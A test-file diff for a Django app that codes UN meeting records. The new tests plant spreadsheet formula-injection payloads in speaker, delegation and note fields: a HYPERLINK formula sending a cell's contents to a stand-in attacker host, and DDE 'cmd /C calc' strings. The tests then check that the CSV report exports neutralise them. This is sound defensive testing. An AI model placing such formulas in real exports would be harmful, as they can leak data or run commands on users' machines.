@@ -391,3 +391,62 @@ def test_the_report_says_what_the_meeting_was_coded_from(signed_in, small):
     assert "the summary&#x27;s account" in html or "the summary's account" in html
     api = signed_in.get(f"/api/meetings/{small.meeting.pk}/report/").json()
     assert api["meeting"]["record_kind"] == "summary"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+COMMAND = "+1+cmd|' /C calc'!A0"
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(codebook, analyst_a):
+    """A meeting whose speaker, delegation and missed opportunity are formulas."""
+    from annotations.coding.services import missed_opportunity_create
+    from tracker.models import Speaker, Statement
+
+    meeting, statements = make_meeting("GA/HOSTILE")
+    speaker = Speaker.objects.create(name=SUM)
+    statement = Statement.objects.create(
+        meeting=meeting, order=7, speaker=speaker, delegation=HYPERLINK, text="Poverty again."
+    )
+    code(statement, codebook, "poverty-inequality", analyst_a, "Poverty")
+    missed_opportunity_create(
+        meeting=meeting, analyst=analyst_a, title=HYPERLINK, rationale=COMMAND
+    )
+    return meeting
+
+
+def test_the_report_csvs_neutralise_formulas_in_what_analysts_and_records_wrote(signed_in, hostile):
+    missed = rows_of(signed_in.get(f"/meetings/{hostile.pk}/report/missed-opportunities.csv"))
+    recorded = [row for row in missed if row[0] == "recorded"]
+    assert recorded[0][1] == "'" + HYPERLINK
+    assert recorded[0][6] == "'" + COMMAND
+    quotes = rows_of(signed_in.get(f"/meetings/{hostile.pk}/report/quotes.csv"))
+    heading = quotes[0]
+    row = next(r for r in quotes[1:] if r[heading.index("statement")] == "7")
+    assert row[heading.index("speaker")] == "'" + SUM
+    assert row[heading.index("delegation")] == "'" + HYPERLINK
+    raw = b"".join(
+        signed_in.get(f"/meetings/{hostile.pk}/report/{table}.csv").content
+        for table in ("missed-opportunities", "quotes")
+    ).decode()
+    assert not re.search(r'(^|,)"?[=+@]', raw, re.MULTILINE)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/api/meetings/{pk}/report/?treshold=5",
+        "/meetings/{pk}/report/?treshold=5",
+        "/meetings/{pk}/report/coverage.csv?treshold=5",
+        "/api/reports/compare/?meetings={pk}&treshold=5",
+        "/reports/compare/?meetings={pk}&treshold=5",
+        "/reports/compare.csv?meetings={pk}&treshold=5",
+    ],
+)
+def test_an_unknown_report_parameter_is_a_400_naming_it(signed_in, small, url):
+    response = signed_in.get(url.format(pk=small.meeting.pk))
+    assert response.status_code == 400
+    text = response.content.decode()
+    assert "treshold" in text
+    assert "is not a parameter here. Known: " in text
